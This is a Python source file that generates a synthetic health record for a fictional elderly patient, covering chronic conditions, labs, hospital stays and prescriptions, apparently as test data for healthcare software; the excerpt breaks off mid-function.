"""The life of Mina, the grandmother: many years, several chronic conditions, two hospital stays, many medicines."""

from __future__ import annotations

from datetime import date, timedelta

from . import ahead, labs, medicines, money, papers
from .build import (
    LOINC,
    RXNORM,
    SNOMED,
    Resource,
    at,
    clock,
    coding,
    concept,
    hl7,
    on,
    ref,
    said,
)
from .clinic import Place
from .life import Life
from .medicines import Dose, every, fill, fills, order

ONE_DAILY = Dose("Take 1 tablet by mouth once a day", 1, times=1)
ONE_EVENING = Dose("Take 1 tablet by mouth every evening", 1, times=1, when=("EVE",))
ONE_MORNING = Dose("Take 1 tablet by mouth every morning, 30 minutes before breakfast", 1, times=1, when=("MORN",))


def build(place: Place) -> Life:
    life = Life(
        place,
        "mina",
        "Mina",
        date(1949, 5, 4),
        "female",
        maritalStatus=hl7("v3-MaritalStatus", "W", "Widowed"),
        contact=[
            {
                "relationship": [hl7("v2-0131", "C", "Emergency Contact")],
                "name": {"text": "Ana Satterfield"},
                "telecom": [{"system": "phone", "value": "(415) 555-0112"}],
            }
        ],
        generalPractitioner=[place.clinician("chen")],
    )
    story = Story(life)
    story.background()
    story.vaccines()
    story.years()
    story.special_results()
    story.stays()
    story.medicines()
    story.papers()
    story.money()
    story.ahead()
    return life


class Story:
    """Mina's record in chapters; later ones point back to the conditions and visits of earlier ones."""

    def __init__(self, life: Life) -> None:
        self.life = life
        self.conditions: dict[str, Resource] = {}
        self.orders: dict[str, Resource] = {}

    # --- what she has, and where she comes from

    def background(self) -> None:
        life, known = self.life, self.conditions
        self.daughter = life.related(
            "mina-daughter",
            "DAUC",
            "Daughter",
            "Ana Satterfield",
            telecom=[{"system": "phone", "value": "(415) 555-0112", "use": "mobile"}],
        )
        known["pressure"] = life.condition(
            "59621000", "Essential hypertension (disorder)", "High blood pressure", "1998"
        )
        known["cholesterol"] = life.condition("55822004", "Hyperlipidemia (disorder)", "High cholesterol", "2004-05")
        known["thyroid"] = life.condition("40930008", "Hypothyroidism (disorder)", "Underactive thyroid", "2009-10-12")
        known["diabetes"] = life.condition(
            "44054006", "Diabetes mellitus type 2 (disorder)", "Type 2 diabetes", "2011-03-08"
        )
        known["knee"] = life.condition(
            "239873007",
            "Osteoarthritis of knee (disorder)",
            "Arthritis of the left knee",
            "2013",
            status="resolved",
            ended="2019-04-02",
        )
        known["bone"] = life.condition("64859006", "Osteoporosis (disorder)", "Osteoporosis", "2018-11-20")
        known["kidney"] = life.condition(
            "433144002", "Chronic kidney disease stage 3 (disorder)", "Chronic kidney disease, stage 3a", "2021-10-19"
        )
        known["hearing"] = life.condition("15188001", "Hearing loss (disorder)", "Hearing loss, both ears", "2020")
        self._past_conditions()
        self._withdrawn_conditions()
        self._allergies()
        self._family_history()
        life.procedure("80146002", "Excision of appendix (procedure)", "Appendix taken out", "1962")
        life.procedure("177184002", "Normal delivery procedure (procedure)", "Birth of a child", "1981-09-17")
        life.procedure("73761001", "Colonoscopy (procedure)", "Colonoscopy", clock("2014-09-23", 10), "marsh")
        life.procedure(
            "110473004",
            "Cataract surgery (procedure)",
            "Cataract surgery, right eye",
            clock("2022-02-15", 8),
            "solberg",
        )
        life.procedure(
            "73761001",
            "Colonoscopy (procedure)",
            "Colonoscopy",
            "2024-09-17",
            "marsh",
            status="not-done",
            statusReason={"text": "Cancelled by the patient: stool test chosen instead"},
        )

    def _past_conditions(self) -> None:
        life, known = self.life, self.conditions
        past = (
            ("74400008", "Appendicitis (disorder)", "Appendicitis", "1962", "1962"),
            ("72892002", "Normal pregnancy (disorder)", "Pregnancy", "1981-01", "1981-09-17"),
            ("65966004", "Fracture of forearm (disorder)", "Broken left wrist", "2018-10-02", "2018-12-11"),
            ("307426000", "Acute infective cystitis (disorder)", "Bladder infection", "2016-06-13", "2016-06-27"),
            ("307426000", "Acute infective cystitis (disorder)", "Bladder infection", "2021-08-03", "2021-08-17"),
            ("10509002", "Acute bronchitis (disorder)", "Bronchitis", "2017-03-06", "2017-03-24"),
            ("193570009", "Cataract (disorder)", "Cataract, right eye", "2020-05", "2022-02-15"),
            ("233604007", "Pneumonia (disorder)", "Pneumonia", "2024-02-11", "2024-03-18"),
        )
        for code, display, words, since, ended in past:
            condition = life.condition(code, display, words, since, status="resolved", ended=ended)
            known[f"{words} {since[:4]}"] = condition
        life.condition(
            "266897007",
            "Family history of myocardial infarction (situation)",
            "Heart attack in the family",
            "2005",
            category="health-concern",
        )
        life.condition(None, "", "Tired after lunch, to be watched", "2025-09-08", category="health-concern")

    def _withdrawn_conditions(self) -> None:
        life = self.life
        life.condition(
            "195967001",
            "Asthma (disorder)",
            "Asthma",
            "2015-04-21",
            status=None,
            verified="entered-in-error",
            note=[{"text": "Written into the wrong record; withdrawn the same week."}],
        )
        life.condition(
            "22298006",
            "Myocardial infarction (disorder)",
            "Heart attack",
            "2020-07-30",
            status=None,
            verified="refuted",
            category="encounter-diagnosis",
            note=[{"text": "Ruled out: heart tracing and blood tests were normal."}],
        )

    def _allergies(self) -> None:
        life = self.life
        self.penicillin = life.allergy(
            {
                "coding": [
                    coding(RXNORM, "7984", "penicillin V"),
                    coding(SNOMED, "91936005", "Allergy to penicillin (finding)"),
                ],
                "text": "Penicillin",
            },
            concept(SNOMED, "126485001", "Urticaria (disorder)", "Hives"),
            "1968",
            criticality="high",
        )
        life.allergy(
            concept(SNOMED, "91939003", "Allergy to sulfonamide (finding)", "Sulfa antibiotics"),
            concept(SNOMED, "271807003", "Eruption of skin (disorder)", "Rash"),
            "2016-06-15",
        )
        life.allergy(
            concept(RXNORM, "1191", "aspirin", "Aspirin"),
            None,
            "2015-04-21",
            clinicalStatus=None,
            verificationStatus=hl7("allergyintolerance-verification", "entered-in-error", "Entered in Error"),
        )
        life.allergy(
            {"text": "Wool"},
            concept(SNOMED, "418363000", "Itching of skin (finding)", "Itching"),
            "1975",
            category=["environment"],
            type="intolerance",
            clinicalStatus=hl7("allergyintolerance-clinical", "inactive", "Inactive"),
        )

    def _family_history(self) -> None:
        life = self.life
        life.relative(
            "MTH", "Mother", ("230690007", "Cerebrovascular accident (disorder)", "Stroke", 79), deceasedBoolean=True
        )
        life.relative(
            "FTH", "Father", ("22298006", "Myocardial infarction (disorder)", "Heart attack", 61), deceasedBoolean=True
        )
        life.relative("SIS", "Sister", ("254837009", "Malignant neoplasm of breast (disorder)", "Breast cancer", 58))

    # --- vaccines

    def vaccines(self) -> None:
        life = self.life
        life.vaccine("113", "Td (adult), 5 Lf tetanus toxoid, preservative free, adsorbed", "2006-04-11")
        life.vaccine("115", "Tdap", "2016-05-10")
        life.vaccine("121", "zoster live", "2012-09-18")
        life.vaccine("133", "Pneumococcal conjugate PCV 13", "2015-10-06")
        life.vaccine("33", "pneumococcal polysaccharide PPV23", "2016-10-11")
        life.vaccine("187", "zoster recombinant", "2019-09-10", 1)
        life.vaccine("187", "zoster recombinant", "2019-12-03", 2)
        life.vaccine("208", "COVID-19, mRNA, LNP-S, PF, 30 mcg/0.3 mL dose", "2021-02-09", 1)
        life.vaccine("208", "COVID-19, mRNA, LNP-S, PF, 30 mcg/0.3 mL dose", "2021-03-02", 2)
        life.vaccine("208", "COVID-19, mRNA, LNP-S, PF, 30 mcg/0.3 mL dose", "2021-10-26", 3)
        life.flu_shots(2005, 2012, "140", "Influenza, seasonal, injectable, preservative free")
        life.flu_shots(2013, 2025, "135", "Influenza, high dose seasonal")
        life.vaccine(
            "216",
            "Pneumococcal conjugate PCV20, polysaccharide CRM197 conjugate, adjuvant, PF",
            "2025-10-14",
            status="not-done",
            statusReason={"text": "Offered; will think about it"},
            lotNumber=None,
            site=None,
        )

    # --- twenty years of visits and what was measured at them

    def years(self) -> None:
        self.visits: dict[str, Resource] = {}
        for year in range(2005, 2026):
            self._wellness(year)
            if year >= 2011:
                self._spring(year)
            if year >= 2014:
                self._heart(year)
            if year >= 2019:
                self._endocrine(year)
            if year >= 2012:
                when = clock(date(year, 8, 6), 13)
                self.life.visit(
                    when,
                    "consultation",
                    "solberg",
                    "Yearly diabetic eye examination",
                    place_of="eye-mast",
                    condition=self.conditions["diabetes"],
                )

    def _pressure(self, year: int) -> tuple[float, float]:
        return (146 - (year - 2005) * 0.9, 88 - (year - 2005) * 0.65)

    def _pounds(self, year: int) -> float:
        return 148 + (year - 2005) * 1.5 if year < 2015 else 163 - (year - 2015) * 1.2

    def _chemistry(self, year: int) -> dict[str, float]:
        creatinine = 0.72 + max(0, year - 2008) * 0.017
        glucose = 104 if year < 2010 else 142 if year < 2014 else 128 if year < 2023 else 112
        return labs.usual_chemistry(self.life, glucose=glucose, creatinine=creatinine)

    def _lipids(self, year: int) -> dict[str, float]:
        ldl = 164 if year < 2006 else 121 if year < 2014 else 84
        return labs.usual_lipids(self.life, ldl=ldl, hdl=53, triglycerides=168 if year < 2014 else 142)

    def _wellness(self, year: int) -> None:
        life = self.life
        when = clock(date(year, 10, 14), 9, 30)
        visit = life.visit(when, "wellness", "chen", "Yearly wellness visit", minutes=40)
        self.visits[f"wellness {year}"] = visit
        inches = 63.5 if year < 2016 else 62.5
        life.vitals(
            visit,
            when,
            pressure=self._pressure(year),
            pulse=72,
            pounds=self._pounds(year),
            inches=inches,
            fahrenheit=98.2 if year % 3 == 0 else None,
            breaths=15 if year % 3 == 0 else None,
            oxygen=97 if year > 2018 else None,
        )
        drawn = when - timedelta(days=5, hours=1)
        labs.panel(life, "cmp" if year >= 2014 else "bmp", drawn, self._chemistry(year))
        labs.panel(life, "lipids", drawn, self._lipids(year))
        if 2014 <= year < 2025:
            labs.panel(life, "cbc", drawn, labs.usual_blood(life, hemoglobin=13.1))
        if year >= 2009:
            labs.measured(life, "tsh", drawn, 7.8 if year == 2009 else abs(life.records.random.gauss(2.1, 0.4)))
        if 2012 <= year < 2023:
            labs.measured(life, "a1c", drawn, 7.6 - (year - 2012) * 0.06)
        if year >= 2015:
            labs.measured(life, "uacr", drawn, 14 + (year - 2015) * 2.4)
        if year >= 2016:
            life.mood(when, (0, 1, 0, 2, 1)[year % 5])
            life.smoking(when, "8517006", "Former smoker")

    def _spring(self, year: int) -> None:
        life = self.life
        when = clock(date(year, 4, 8), 10)
        visit = life.visit(
            when, "follow-up", "chen", "Diabetes and blood pressure", condition=self.conditions["diabetes"]
        )
        self.visits[f"spring {year}"] = visit
        life.vitals(visit, when, pressure=self._pressure(year), pulse=74, pounds=self._pounds(year) - 1)
        drawn = when - timedelta(days=4, hours=2)
        if year < 2023:
            labs.measured(life, "a1c", drawn, 7.9 - (year - 2011) * 0.08, flagged=year >= 2012)
        if year >= 2021:
            labs.panel(life, "bmp", drawn, self._chemistry(year))

    def _heart(self, year: int) -> None:
        life = self.life
        when = clock(date(year, 6, 17), 14, 20)
        visit = life.visit(
            when, "consultation", "ruiz", "Blood pressure and cholesterol", condition=self.conditions["pressure"]
        )
        self.visits[f"heart {year}"] = visit
        life.vitals(visit, when, pressure=self._pressure(year), pulse=70, oxygen=97)

    def _endocrine(self, year: int) -> None:
        life = self.life
        when = clock(date(year, 1, 21), 11)
        visit = life.visit(when, "consultation", "okoye", "Thyroid and diabetes", condition=self.conditions["thyroid"])
        life.vitals(visit, when, pressure=self._pressure(year), pulse=72, pounds=self._pounds(year))

    # --- results that stand out

    def special_results(self) -> None:
        self._sugar_of_late()
        self._critical_potassium()
        self._latest_blood_count()
        self._infections()
        self._pictures()
        self._other_results()

    def _sugar_of_late(self) -> None:
        readings = (
            ("2023-05-09", 6.9),
            ("2023-09-12", 6.6),
            ("2024-01-16", 6.4),
            ("2024-05-14", 6.1),
            ("2024-09-10", 6.3),
            ("2025-03-25", 6.0),
            ("2025-10-07", 5.8),
        )
        for day, value in readings:
            labs.measured(self.life, "a1c", clock(day, 8, 5), value)

    def _critical_potassium(self) -> None:
        """A critical value that turned out to be the sample's fault."""
        life = self.life
        when = clock("2025-11-10", 8, 15)
        labs.measured(
            life,
            "potassium",
            when,
            6.4,
            interpretation=labs.flag("HH"),
            issued=at(clock("2025-11-10", 13, 40)),
            updated=clock("2025-11-10", 14),
            note=[
                {
                    "text": "Critical value called to Dr. Wei Chen at 1:45 PM by Bay Reference Lab, "
                    f"{labs.LAB_PHONE}. Sample was hemolyzed; please repeat."
                }
            ],
        )
        labs.measured(life, "potassium", clock("2025-11-11", 7, 50), 4.6)
        labs.observation(
            life,
            when,
            concept(LOINC, "2601-3", "Magnesium [Moles/volume] in Serum or Plasma", "Magnesium"),
            dataAbsentReason=hl7("data-absent-reason", "error", "Error") | {"text": "Not measured: sample hemolyzed"},
        )

    def _latest_blood_count(self) -> None:
        """The newest blood count, with one value that the laboratory corrected."""
        life = self.life
        report = labs.panel(life, "cbc", clock("2025-10-09", 8, 30), labs.usual_blood(life, hemoglobin=12.6))
        hemoglobin = next(
            each for each in life.records.all if each["id"] == report["result"][2]["reference"].partition("/")[2]
        )
        hemoglobin["status"] = "corrected"
        hemoglobin["note"] = [{"text": f"Corrected {said('2025-10-13')}: first reported as 11.2 g/dL."}]
        hemoglobin["meta"] = {"versionId": "2", "lastUpdated": at(clock("2025-10-13", 9, 10))}
        report["status"] = "corrected"
        report["meta"] = {"versionId": "2", "lastUpdated": at(clock("2025-10-13", 9, 10))}

    def _infections(self) -> None:
        life = self.life
        for day in ("2016-06-13", "2021-08-03"):
            when = clock(day, 11)
            visit = life.visit(
                when,
                "symptom",
                "fields",
                "Burning when passing urine",
                condition=self.conditions[f"Bladder infection {day[:4]}"],
            )
            life.vitals(visit, when, pressure=(134, 78), pulse=82, fahrenheit=99.4)
            ahead.specimen(life, when, "122575003", "Urine specimen (specimen)")
            labs.urinalysis(life, when, infected=True)
            labs.observation(
                life,
                when,
                concept(LOINC, "630-4", "Bacteria identified in Urine by Culture", "Urine culture"),
                valueCodeableConcept=concept(SNOMED, "112283007", "Escherichia coli (organism)", "Escherichia coli"),
                interpretation=labs.flag("A"),
            )
        when = clock("2026-01-02", 9, 40)
        labs.urinalysis(life, when)
        labs.observation(
            life,
            when,
            concept(LOINC, "630-4", "Bacteria identified in Urine by Culture", "Urine culture"),
            status="preliminary",
            valueString="No growth after one day. Final report to follow.",
            issued=at(clock("2026-01-03", 15)),
            updated=clock("2026-01-03", 15, 30),
        )

    def _pictures(self) -> None:
        life = self.life
        papers.imaging(
            life,
            clock("2018-11-13", 10),
            concept(LOINC, "38269-7", "DXA Skeletal system Views for bone density", "Bone density scan"),
            "Osteoporosis of the hip: T-score -2.7.",
            modality="DXA",
            body="Hip",
            text={
                "$pdf": [
                    "# Bone density scan",
                    "",
                    f"Date: {said('2018-11-13')}",
                    "Patient: Mina Satterfield",
                    "",
                    "Left hip, total: T-score -2.7",
                    "Spine L1 to L4: T-score -1.9",
                    "",
                    "Impression: osteoporosis of the hip.",
                    "Read by: Dr. Tunde Adeyemi",
                ]
            },
        )
        papers.imaging(
            life,
            clock("2023-11-14", 10),
            concept(LOINC, "38269-7", "DXA Skeletal system Views for bone density", "Bone density scan"),
            "Bone density of the hip is a little better: T-score -2.5.",
            modality="DXA",
            body="Hip",
        )
        for day in ("2014-10-21", "2016-10-18", "2018-10-23", "2020-10-20", "2022-10-18"):
            papers.imaging(
                life,
                clock(day, 9),
                concept(LOINC, "24606-6", "MG Breast Screening", "Mammogram"),
                "Negative (BI-RADS 1).",
                modality="MG",
                body="Both breasts",
            )
        papers.imaging(
            life,
            clock("2020-07-30", 17),
            {"text": "Heart ultrasound (echocardiogram)"},
            "Normal pumping function, ejection fraction 62 percent. Mild thickening of the aortic valve.",
            modality="US",
            body="Heart",
            by="ruiz",
        )
        for number, side in enumerate(("left", "right")):
            for day, words in (("2025-08-06", "No sign of diabetic eye disease."),):
                labs.observation(
                    life,
                    clock(day, 13, number * 5),
                    {"text": f"Retina photograph, {side} eye"},
                    category=[hl7("observation-category", "imaging", "Imaging")],
                    valueString=words,
                    performer=[life.place.clinician("solberg")],
                )

    def _other_results(self) -> None:
        life = self.life
        when = clock("2025-10-09", 8, 30)
        labs.observation(
            life,
            when,
            concept(
                LOINC,
                "62292-8",
                "25-Hydroxyvitamin D2+25-Hydroxyvitamin D3 [Mass/volume] in Serum or Plasma",
                "Vitamin D",
            ),
            valueQuantity={"value": 27, "unit": "ng/mL", "system": "http://unitsofmeasure.org", "code": "ng/mL"},
            referenceRange=[
                {"high": {"value": 19, "unit": "ng/mL"}, "text": "Deficient: below 20"},
                {
                    "low": {"value": 20, "unit": "ng/mL"},
                    "high": {"value": 29, "unit": "ng/mL"},
                    "text": "Insufficient: 20-29",
                },
                {
                    "low": {"value": 30, "unit": "ng/mL"},
                    "high": {"value": 100, "unit": "ng/mL"},
                    "type": hl7("referencerange-meaning", "normal", "Normal Range"),
                    "text": "Sufficient: 30-100",
                },
            ],
        )
        labs.measured(life, "b12", when, 412)
        name = "Microalbumin [Mass/volume] in Urine"
        for day in ("2012-10-09", "2013-10-09", "2014-10-09"):
            labs.observation(
                life,
                clock(day, 8, 30),
                concept(LOINC, "14957-5", name, "Microalbumin, urine"),
                valueQuantity={
                    "value": 5,
                    "comparator": "<",
                    "unit": "mg/L",
                    "system": "http://unitsofmeasure.org",
                    "code": "mg/L",
                },
                referenceRange=[{"high": {"value": 20, "unit": "mg/L"}, "text": "<20"}],
                interpretation=labs.flag("N"),
            )
        labs.observation(
            life,
            clock("2013-10-09", 8, 30),
            concept(LOINC, "16128-1", "Hepatitis C virus Ab [Presence] in Serum", "Hepatitis C antibody"),
            valueCodeableConcept={"text": "Non-reactive"},
            interpretation=labs.flag("N"),
        )
        labs.presence(
            life,
            "29771-3",
            "Hemoglobin.gastrointestinal.lower [Presence] in Stool by Immunoassay",
            "Stool test for blood",
            clock("2024-10-01", 9),
            "Negative",
        )
        for name, low, high, value in (("Ferritin", 15, 150, 64),):
            labs.observation(
                life,
                when,
                concept(LOINC, "2276-4", "Ferritin [Mass/volume] in Serum or Plasma", name),
                valueQuantity={"value": value, "unit": "ng/mL", "system": "http://unitsofmeasure.org", "code": "ng/mL"},
                referenceRange=[
                    {
                        "type": hl7("referencerange-meaning", "normal", "Normal Range"),
                        "low": {"value": low, "unit": "ng/mL"},
                        "high": {"value": high, "unit": "ng/mL"},
                        "appliesTo": [{"text": "female"}],
                        "text": "Women: 15-150",
                    },
                    {
                        "type": hl7("referencerange-meaning", "normal", "Normal Range"),
                        "low": {"value": 30, "unit": "ng/mL"},
                        "high": {"value": 300, "unit": "ng/mL"},
                        "appliesTo": [{"text": "male"}],
                        "text": "Men: 30-300",
                    },
                ],
            )

    # --- two stays in hospital

    def stays(self) -> None:
        self._knee()
        self._pneumonia()

    def _knee(self) -> None:
        life = self.life
        start, end = clock("2019-04-02", 6, 30), clock("2019-04-05", 11)
        stay = life.visit(
            start,
            "admission",
            "prieto",
            "Replacement of the left knee",
            until=end,
            place_of="hospital-main",
            setting="IMP",
            condition=self.conditions["knee"],
            type=[{"text": "Planned hospital stay"}],
            hospitalization={"dischargeDisposition": {"text": "Home with physical therapy"}},
        )
        implant = ahead.device(
            life,
            "304120007",
            "Total knee replacement prosthesis (physical object)",
            "2019-04-02",
            manufacturer="Harbor Orthopedics (invented)",
            lotNumber="KN-2019-0402",
            serialNumber="L-550127",
            udiCarrier=[{"deviceIdentifier": "09999999999994", "carrierHRF": "(01)09999999999994(21)L-550127"}],
        )
        operation = life.procedure(
            "609588000",
            "Total replacement of knee joint (procedure)",
            "Left knee replacement",
            clock("2019-04-02", 8),
            "prieto",
            encounter=ref(stay),
            reasonReference=[ref(self.conditions["knee"])],
            focalDevice=[{"manipulated": ref(implant)}],
        )
        self.knee_visit, self.knee_operation = stay, operation
        day = date(2019, 4, 3)
        enoxaparin = order(
            life,
            "enoxaparin-40",
            Dose("40 mg under the skin once a day"),
            day,
            "prieto",
            status="completed",
            inpatient=True,
            encounter=stay,
        )
        for number in range(3):
            medicines.given(life, enoxaparin, clock(day + timedelta(days=number), 9), "40 mg under the skin", stay)
        home = order(
            life,
            "oxycodone",
            Dose(
                "Take 1 tablet every 6 hours if needed for pain", 1, times=1, period=6, period_unit="h", as_needed=True
            ),
            date(2019, 4, 5),
            "prieto",
            status="completed",
            amount=20,
            supply=5,
            refills=0,
            until=date(2019, 4, 12),
            encounter=stay,
        )
        fill(life, home, date(2019, 4, 5), 20, 5)
        for week in range(8):
            when = clock(date(2019, 4, 16) + timedelta(weeks=week), 15)
            life.visit(
                when,
                "procedure",
                "lindgren",
                "Physical therapy of the left knee",
                minutes=45,
                type=[{"text": "Physical therapy"}],
            )

    def _pneumonia(self) -> None:
        life = self.life
        start, end = clock("2024-02-11", 19, 20), clock("2024-02-15", 12)
        cause = self.conditions["Pneumonia 2024"]
        stay = life.visit(
            start,
            "admission",
            "adeyemi",
            "Pneumonia",
            until=end,
            place_of="hospital-main",
            setting="IMP",
            condition=cause,
            hospitalization={
                "admitSource": {"text": "From the emergency room"},
                "dischargeDisposition": {"text": "Home"},
            },
        )
        self.pneumonia_stay = stay
        life.vitals(stay, start, pressure=(118, 66), pulse=104, fahrenheit=102.1, breaths=24, oxygen=90)
        for number in range(1, 5):
            when = clock(date(2024, 2, 11) + timedelta(days=number), 8)
            life.vitals(
                stay,
                when,
                pressure=(122, 70),
                pulse=96 - number * 5,
                fahrenheit=101.2 - number * 0.7,
                breaths=22 - number,
                oxygen=91 + number,
            )
        labs.panel(life, "bmp", start, labs.usual_chemistry(life, glucose=168, creatinine=1.15))
        labs.panel(life, "cbc", start, labs.usual_blood(life, hemoglobin=12.4) | {"wbc": 15.8})
        labs.measured(life, "crp", start, 148)
        labs.observation(
            life,
            clock("2024-03-18", 9),
            concept(LOINC, "1988-5", labs.TESTS["crp"].name, "C-reactive protein"),
            valueQuantity={
                "value": 5,
                "comparator": "<",
                "unit": "mg/L",
                "system": "http://unitsofmeasure.org",
                "code": "mg/L",
            },
            referenceRange=[{"high": {"value": 5, "unit": "mg/L"}, "text": "<5"}],
            interpretation=labs.flag("N"),
        )
        labs.presence(
            life,
            "94500-6",
            "SARS-CoV-2 (COVID-19) RNA [Presence] in Respiratory system specimen by NAA with probe detection",
            "COVID-19 test",
            start,
            "Not detected",
        )
        papers.imaging(
            life,
            start + timedelta(hours=1),
            concept(LOINC, "36643-5", "XR Chest 2 Views", "Chest X-ray"),
            "Right lower lobe pneumonia.",
            modality="DX",
            body="Chest",
            text={
                "$html": "<h1>Chest X-ray</h1><p>Findings: shadow in the <b>right lower lobe</b>.</p>"
                "<p>Impression: <em>pneumonia</em>.</p>"
            },
        )
        papers.imaging(
            life,
            clock("2024-03-18", 10),
            concept(LOINC, "36643-5", "XR Chest 2 Views", "Chest X-ray"),
            "The pneumonia has cleared.",
            modality="DX",
            body="Chest",
        )
        self._pneumonia_medicines(stay, cause)

    def _pneumonia_medicines(self, stay: Resource, cause: Resource) -> None:
        life, day = self.life, date(2024, 2, 11)
        ceftriaxone = order(
            life,
            "ceftriaxone-1000",
            Dose("1 g into the vein every 24 hours"),
            day,
            "adeyemi",
            status="completed",
            reason=cause,
            inpatient=True,
            encounter=stay,
            note=[{"text": "Hives with penicillin in 1968: discussed, given under watch, no reaction."}],
        )
        shots = order(
            life,
            "enoxaparin-40",
            Dose("40 mg under the skin once a day"),
            day,
            "adeyemi",
            status="completed",
            inpatient=True,
            encounter=stay,
        )
        fever = order(
            life,
            "acetaminophen-325",
            Dose("650 mg by mouth every 6 hours if needed for fever", as_needed=True),
            day,
            "adeyemi",
            status="completed",
            inpatient=True,
            encounter=stay,
        )
        order(
            life,
            "Insulin lispro by sliding scale",
            Dose("Before meals by blood sugar: 151-200 2 units, 201-250 4 units, 251-300 6 units"),
            day,
            "adeyemi",
            status="completed",
            inpatient=True,
            encounter=stay,
        )
        for number in range(4):
            medicines.given(life, ceftriaxone, clock(day + timedelta(days=number), 21), "1 g into the vein", stay)
            medicines.given(life, shots, clock(day + timedelta(days=number), 22), "40 mg under the skin", stay)
        for hours in (3, 10, 18, 27, 40):
            medicines.given(life, fever, clock(day, 20) + timedelta(hours=hours), "650 mg by mouth", stay)
        medicines.given(
            life,
            fever,
            clock("2024-02-14", 9),
            "650 mg by mouth",
            stay,
            status="not-done",
            statusReason=[{"text": "No fever"}],
        )

    # --- medicines at home

    def medicines(self) -> None:
        self._long_running()
        self._changed_of_late()
        self._short_courses()
        self._not_to_be_taken()
        self._without_prescription()

    def _yearly(
        self, name: str, dose: Dose, first: int, last: int, prescriber: str, reason: str, amount: float, **more: object
    ) -> None:
        """An order a year, each ended by the next: how a clinic's list grows."""
        for year in range(first, last + 1):
            day = date(year, 10, 14)
            order(
                self.life,
                name,
                dose,
                day,
                prescriber,
                status="completed",
                reason=self.conditions[reason],
                amount=amount,
                supply=90,
                refills=3,
                until=day + timedelta(days=365),
                **more,
            )

    def _long_running(self) -> None:
        life, known = self.life, self.conditions
        self._yearly("lisinopril-10", ONE_DAILY, 2008, 2024, "chen", "pressure", 90)
        lisinopril = order(
            life,
            "lisinopril-10",
            ONE_DAILY,
            date(2025, 10, 14),
            "chen",
            reason=known["pressure"],
            amount=30,
            supply=30,
            refills=5,
            until=date(2026, 10, 14),
        )
        fills(life, lisinopril, every(date(2025, 10, 14), date(2025, 12, 22), 30), 30, 30)
        self._yearly("atorvastatin-20", ONE_EVENING, 2014, 2023, "ruiz", "cholesterol", 90)
        atorvastatin = order(
            life,
            "atorvastatin-20",
            ONE_EVENING,
            date(2025, 6, 17),
            "ruiz",
            reason=known["cholesterol"],
            amount=30,
            supply=30,
            refills=11,
            until=date(2026, 6, 17),
            apart=True,
        )
        # Each time fetched a few days early: what was left over carries on.
        fills(life, atorvastatin, every(date(2025, 6, 18), date(2025, 12, 5), 28), 30, 30)
        self._yearly("levothyroxine-75", ONE_MORNING, 2010, 2023, "okoye", "thyroid", 90)
        levothyroxine = order(
            life,
            "levothyroxine-75",
            ONE_MORNING,
            date(2025, 1, 21),
            "okoye",
            reason=known["thyroid"],
            amount=90,
            supply=90,
            refills=3,
            until=date(2026, 1, 21),
            apart=True,
            pharmacy="lighthouse-mail",
        )
        fills(life, levothyroxine, every(date(2025, 1, 28), date(2025, 10, 27), 90), 90, 90, pharmacy="lighthouse-mail")
        alendronate = order(
            life,
            "alendronate 70 mg tablet",
            Dose(
                "Take 1 tablet ONCE A WEEK, on Mondays, with a full glass of water",
                1,
                times=1,
                period=1,
                period_unit="wk",
            ),
            date(2025, 4, 8),
            "chen",
            reason=known["bone"],
            amount=12,
            supply=84,
            refills=3,
            until=date(2026, 4, 8),
        )
        fills(life, alendronate, every(date(2025, 4, 14), date(2025, 12, 1), 84), 12, 84)
        self.orders |= {"lisinopril": lisinopril, "atorvastatin": atorvastatin, "levothyroxine": levothyroxine}

    def _changed_of_late(self) -> None:
        life, known = self.life, self.conditions
        twice = Dose("Take 1 tablet by mouth twice a day with meals", 1, times=2)
        self._yearly("metformin-500", twice, 2011, 2023, "chen", "diabetes", 180)
        before = order(
            life,
            "metformin-500",
            twice,
            date(2024, 10, 14),
            "chen",
            status="stopped",
            reason=known["diabetes"],
            amount=180,
            supply=90,
            refills=3,
            until=date(2025, 12, 9),
            statusReason={"text": "Dose changed"},
            updated=clock("2025-12-09", 11),
        )
        fills(life, before, every(date(2024, 10, 20), date(2025, 11, 17), 90), 180, 90)
        self.orders["metformin"] = order(
            life,
            "metformin-500",
            Dose("Take 2 tablets by mouth with breakfast and 1 tablet with dinner"),
            date(2025, 12, 9),
            "okoye",
            reason=known["diabetes"],
            amount=270,
            supply=90,
            refills=3,
            until=date(2026, 12, 9),
            priorPrescription=ref(before),
        )
        # Two strengths of one medicine, from two clinicians, both in force.
        self._yearly("amlodipine-5", ONE_DAILY, 2015, 2024, "chen", "pressure", 90)
        five = order(
            life,
            "amlodipine-5",
            ONE_DAILY,
            date(2025, 10, 14),
            "chen",
            reason=known["pressure"],
            amount=30,
            supply=30,
            refills=5,
            until=date(2026, 10, 14),
        )
        fills(life, five, every(date(2025, 10, 14), date(2025, 11, 18), 30), 30, 30)
        ten = order(
            life,
            "amlodipine-10",
            ONE_DAILY,
            date(2025, 12, 16),
            "ruiz",
            reason=known["pressure"],
            amount=30,
            supply=30,
            refills=5,
            until=date(2026, 12, 16),
        )
        fill(life, ten, date(2025, 12, 16), 30, 30)
        # Ordered, but the clinic knows of no dispense.
        order(
            life,
            "omeprazole-20",
            Dose("Take 1 capsule by mouth once a day before breakfast", 1, "capsule", times=1),
            date(2025, 11, 18),
            "chen",
            amount=30,
            supply=30,
            refills=2,
            until=date(2026, 11, 18),
        )
        order(
            life,
            "furosemide-20",
            Dose("Take 1 tablet by mouth in the morning", 1, times=1, when=("MORN",)),
            date(2025, 6, 17),
            "ruiz",
            status="on-hold",
            reason=known["pressure"],
            amount=30,
            supply=30,
            refills=2,
            statusReason={"text": "On hold until kidney function is checked again"},
            updated=date(2025, 10, 14),
        )
        pain = order(
            life,
            "acetaminophen-500",
            Dose(
                "Take 1 to 2 tablets every 8 hours if needed for pain. Not more than 6 tablets a day",
                1,
                times=1,
                period=8,
                period_unit="h",
                as_needed=True,
            ),
            date(2025, 9, 8),
            "fields",
            amount=60,
            supply=10,
            refills=2,
            until=date(2026, 9, 8),
        )
        fill(life, pain, date(2025, 9, 8), 60, 10)

    def _short_courses(self) -> None:
        life, known = self.life, self.conditions
        # Never marked as finished: still "active" on the clinic's list.
        order(
            life,
            "azithromycin-250",
            Dose("Take 2 tablets on the first day, then 1 tablet a day for 4 days"),
            date(2017, 3, 6),
            "fields",
            reason=known["Bronchitis 2017"],
            amount=6,
            supply=5,
            refills=0,
        )
        order(
            life,
            "nitrofurantoin 100 mg capsule",
            Dose("Take 1 capsule by mouth twice a day for 5 days", 1, "capsule", times=2),
            date(2021, 8, 3),
            "fields",
            status="completed",
            reason=known["Bladder infection 2021"],
            amount=10,
            supply=5,
            refills=0,
            contained=[
